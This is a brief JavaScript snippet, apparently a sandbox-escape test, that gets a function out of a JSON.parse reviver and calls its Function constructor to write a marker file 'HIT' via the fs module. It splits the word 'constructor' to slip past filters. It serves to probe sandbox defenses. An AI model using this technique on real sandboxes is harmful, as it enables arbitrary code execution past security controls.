// JSON.parse with a reviver gives a function
const k=['constr','uctor'].join('');
const o = JSON.parse('{"a":1}', function(q,v){ return q ? v : parseInt }); const m=o[k]('process.getBuiltinModule("fs").writeFileSync("HIT","reviver2")'); m()
